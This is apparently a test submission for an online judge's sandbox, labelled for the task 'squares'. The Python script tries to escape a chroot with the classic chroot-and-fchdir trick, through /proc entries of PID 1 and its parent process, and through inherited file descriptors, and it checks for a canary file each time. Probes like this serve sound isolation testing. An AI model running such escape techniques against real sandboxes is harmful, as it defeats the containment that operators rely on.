"""Leaves its root by the classic chroot and fchdir, and by /proc.

task: squares
status: RE WA
"""

import os

os.write(2, b"attempt\n")
try:
    os.mkdir("/tmp/@TOKEN@")
    fd = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/@TOKEN@")
    os.fchdir(fd)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    print("ESCAPED chroot")
except OSError:
    pass
for path in ("/proc/1/cwd", "/proc/1/root", f"/proc/{os.getppid()}/cwd", f"/proc/{os.getppid()}/root"):
    try:
        os.chdir(path)
        if os.path.exists("." + "@CANARY@"):
            print("ESCAPED by", path)
    except OSError:
        pass
for fd in range(3, 256):
    try:
        os.fchdir(fd)
        if os.path.exists("." + "@CANARY@") or os.path.exists("../../../../../.." + "@CANARY@"):
            print("ESCAPED by descriptor", fd)
    except OSError:
        pass
print(0)
